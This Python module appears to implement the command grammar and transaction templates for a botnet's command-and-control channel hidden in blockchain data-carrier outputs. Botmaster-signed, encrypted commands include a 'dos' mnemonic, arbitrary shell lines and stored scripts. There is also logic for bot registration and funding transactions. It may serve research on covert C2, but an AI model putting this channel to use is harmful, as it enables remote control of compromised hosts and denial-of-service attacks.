"""Message grammar and transaction templates.

Commands travel as short plaintext lines sealed into downlink
envelopes.  Three kinds exist: hardcoded commands dispatched by a fixed
three-letter mnemonic, free-form shell lines, and script commands that
point at code stored in an earlier transaction.

Transactions come in five shapes.  Quota batches split operator funds
into registration-sized outputs on the shared account; registrations
burn one quota into a single data carrier; funding transactions pay a
bot; messages pair one data carrier with a change output; script
storage is message-shaped with the encrypted code as carrier.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from random import Random

from . import cryptoenvelope as ce
from .relaypolicy import NetworkProfile, mrf
from .txmodel import (
    OutPoint, Transaction, TxOutput, Utxo, build_data_carrier_script,
    make_input, spend_script,
)

MAX_SHELL_BYTES = 100
MAX_PAYLOAD_BYTES = 51_200
SCRIPT_ARGS_LEN = 64           # stored txid (32) + storage key (32)
QUOTAS_PER_BATCH = 10

HARDCODED_MNEMONICS = ("dos", "stp")
SCRIPT_MNEMONIC = "scr"
_RESERVED = HARDCODED_MNEMONICS + (SCRIPT_MNEMONIC,)


class WireError(Exception):
    """Base class for codec and template failures."""


class ArgTooLong(WireError):
    """Shell line exceeds the hardcoded-command size budget."""


class Malformed(WireError):
    """Plaintext does not parse as a well-formed command."""


class ShapeViolation(WireError):
    """Inputs or parameters cannot produce the template's shape."""


class InsufficientFunds(WireError):
    """Input value does not cover outputs plus the relay fee."""


class CommandKind(enum.Enum):
    HARDCODED = "hardcoded"
    SHELL = "shell"
    SCRIPT = "script"


@dataclass(frozen=True)
class Command:
    kind: CommandKind
    mnemonic: str     # empty for shell commands
    args: bytes

    @classmethod
    def hardcoded(cls, mnemonic: str, args: bytes = b""):
        if mnemonic not in HARDCODED_MNEMONICS:
            raise Malformed(f"unknown hardcoded mnemonic: {mnemonic!r}")
        return cls(CommandKind.HARDCODED, mnemonic, args)

    @classmethod
    def shell(cls, line: bytes):
        if not line:
            raise Malformed("empty shell line")
        if len(line) > MAX_SHELL_BYTES:
            raise ArgTooLong(
                f"shell line is {len(line)} bytes; lines over "
                f"{MAX_SHELL_BYTES} must ship as a script command")
        head = line.split(b" ", 1)[0]
        if head.decode("ascii", "replace") in _RESERVED:
            raise Malformed(f"shell line collides with mnemonic {head!r}")
        return cls(CommandKind.SHELL, "", line)

    @classmethod
    def script(cls, stored_txid: bytes, storage_key: bytes):
        args = stored_txid + storage_key
        if len(stored_txid) != 32 or len(storage_key) != 32:
            raise Malformed("script command needs a 32-byte txid and a 32-byte key")
        return cls(CommandKind.SCRIPT, SCRIPT_MNEMONIC, args)

    @property
    def stored_txid(self) -> bytes:
        if self.kind is not CommandKind.SCRIPT:
            raise Malformed("not a script command")
        return self.args[:32]

    @property
    def storage_key(self) -> bytes:
        if self.kind is not CommandKind.SCRIPT:
            raise Malformed("not a script command")
        return self.args[32:]

    def plaintext(self) -> bytes:
        if self.kind is CommandKind.SHELL:
            return self.args
        head = self.mnemonic.encode("ascii")
        return head + b" " + self.args if self.args else head

    def describe(self) -> str:
        """One-line rendering for logs and reports."""
        if self.kind is CommandKind.SCRIPT:
            return f"scr {self.stored_txid.hex()} {self.storage_key.hex()}"
        return self.plaintext().decode("ascii", "replace")


def parse_command(plaintext: bytes) -> Command:
    """Inverse of Command.plaintext()."""
    head, _, rest = plaintext.partition(b" ")
    mnemonic = head.decode("ascii", "replace")
    if mnemonic == SCRIPT_MNEMONIC:
        if len(rest) != SCRIPT_ARGS_LEN:
            raise Malformed(
                f"script command args must be {SCRIPT_ARGS_LEN} bytes, "
                f"got {len(rest)}")
        return Command.script(rest[:32], rest[32:])
    if mnemonic in HARDCODED_MNEMONICS:
        return Command(CommandKind.HARDCODED, mnemonic, rest)
    return Command.shell(plaintext)


def encode_command(cmd: Command, botnet_key: ce.BotnetKey,
                   keys: ce.BotmasterKeys, rng: Random,
                   sign: bool = True) -> ce.Envelope:
    return ce.downlink_seal(cmd.plaintext(), botnet_key, keys, rng, sign=sign)


def decode_command(env: ce.Envelope, botnet_key: ce.BotnetKey,
                   botmaster_public: ce.RsaPublicKey,
                   require_signature: bool = True) -> Command:
    plaintext = ce.downlink_open(env, botnet_key, botmaster_public,
                                 require_signature=require_signature)
    return parse_command(plaintext)


# ---------------------------------------------------------------------------
# transaction templates


class TxKind(enum.Enum):
    QUOTA_BATCH = "quota-batch"
    REGISTRATION = "registration"
    FUNDING = "funding"
    MESSAGE = "message"
    SCRIPT_STORAGE = "script-storage"

    def __str__(self):
        return self.value


@dataclass(frozen=True)
class BuiltTx:
    tx: Transaction
    fee: int
    kind: TxKind


def _mrf_of(inputs: list[Utxo], outputs: list[TxOutput],
            profile: NetworkProfile) -> int:
    # sizes do not depend on output values here (8-byte fields), so one
    # probe build settles the fee
    probe = Transaction([make_input(u.outpoint) for u in inputs], outputs)
    return mrf(probe, profile)


def _settle(inputs: list[Utxo], fixed: list[TxOutput],
            change_script: bytes, kind: TxKind,
            profile: NetworkProfile) -> BuiltTx:
    """Build with a change output absorbing input minus fixed minus fee."""
    outputs = fixed + [TxOutput(0, change_script)]
    fee = _mrf_of(inputs, outputs, profile)
    total_in = sum(u.value for u in inputs)
    change = total_in - sum(o.value for o in fixed) - fee
    if change < 0:
        raise InsufficientFunds(
            f"inputs {total_in} sat do not cover outputs plus fee {fee} sat")
    outputs[-1] = TxOutput(change, change_script)
    tx = Transaction([make_input(u.outpoint) for u in inputs], outputs)
    return BuiltTx(tx, fee, kind)


def registration_fee(profile: NetworkProfile) -> int:
    """MRF of a registration transaction; the quota denomination."""
    carrier = build_data_carrier_script(bytes(ce.RSA_BYTES))
    probe = Transaction([make_input(OutPoint(bytes(32), 0))],
                        [TxOutput(0, carrier)])
    return mrf(probe, profile)


def message_fee(carrier_len: int, profile: NetworkProfile) -> int:
    """MRF of a message transaction carrying the given payload length."""
    probe = Transaction(
        [make_input(OutPoint(bytes(32), 0))],
        [TxOutput(0, build_data_carrier_script(bytes(carrier_len))),
         TxOutput(0, spend_script(bytes(20)))])
    return mrf(probe, profile)


def build_quota_batch(funding: Utxo, quota_script: bytes,
                      change_script: bytes,
                      profile: NetworkProfile) -> BuiltTx:
    quota_value = registration_fee(profile)
    quotas = [TxOutput(quota_value, quota_script)] * QUOTAS_PER_BATCH
    return _settle([funding], quotas, change_script,
                   TxKind.QUOTA_BATCH, profile)


def build_registration(quota: Utxo, envelope_wire: bytes,
                       profile: NetworkProfile) -> BuiltTx:
    if len(envelope_wire) != ce.RSA_BYTES:
        raise ShapeViolation("registration carrier must be one RSA block")
    carrier = TxOutput(0, build_data_carrier_script(envelope_wire))
    tx = Transaction([make_input(quota.outpoint)], [carrier])
    fee = mrf(tx, profile)
    if quota.value != fee:
        raise ShapeViolation(
            f"quota of {quota.value} sat does not match the "
            f"registration fee of {fee} sat")
    return BuiltTx(tx, fee, TxKind.REGISTRATION)


def build_funding(source: Utxo, amount: int, dest_script: bytes,
                  change_script: bytes,
                  profile: NetworkProfile) -> BuiltTx:
    if amount <= 0:
        raise ShapeViolation("funding amount must be positive")
    if dest_script == change_script:
        raise ShapeViolation("funding destination equals the change address")
    return _settle([source], [TxOutput(amount, dest_script)], change_script,
                   TxKind.FUNDING, profile)


def build_message(source: Utxo, carrier_data: bytes, change_script: bytes,
                  profile: NetworkProfile,
                  kind: TxKind = TxKind.MESSAGE) -> BuiltTx:
    if not carrier_data:
        raise ShapeViolation("message carrier is empty")
    carrier = TxOutput(0, build_data_carrier_script(carrier_data))
    return _settle([source], [carrier], change_script, kind, profile)


# a maximum-size payload seals to this many carrier bytes (iv + padded body)
MAX_SEALED_CARRIER = ce.BLOCK_LEN + ce.sealed_body_size(MAX_PAYLOAD_BYTES)


def build_script_storage(source: Utxo, sealed_script: bytes,
                         change_script: bytes,
                         profile: NetworkProfile) -> BuiltTx:
    if len(sealed_script) > MAX_SEALED_CARRIER:
        raise ShapeViolation("sealed script exceeds the carrier budget")
    return build_message(source, sealed_script, change_script, profile,
                         kind=TxKind.SCRIPT_STORAGE)


def classify(tx: Transaction) -> TxKind | None:
    """Shape-only template recognition; None when nothing matches.

    Script storage is message-shaped by design, so it classifies as
    MESSAGE; telling the two apart requires key material, not shape.
    """
    if tx.is_coinbase():
        return None
    carriers = tx.carrier_outputs()
    n_in, n_out = len(tx.inputs), len(tx.outputs)
    if n_in == 1 and n_out == 1 and len(carriers) == 1:
        return TxKind.REGISTRATION
    if n_in == 1 and n_out == 2 and len(carriers) == 1:
        return TxKind.MESSAGE
    if carriers:
        return None
    if n_out == QUOTAS_PER_BATCH + 1:
        pairs = [(o.value, o.script) for o in tx.outputs]
        if max(pairs.count(p) for p in set(pairs)) >= QUOTAS_PER_BATCH:
            return TxKind.QUOTA_BATCH
    if n_in == 1 and n_out == 2:
        return TxKind.FUNDING
    return None
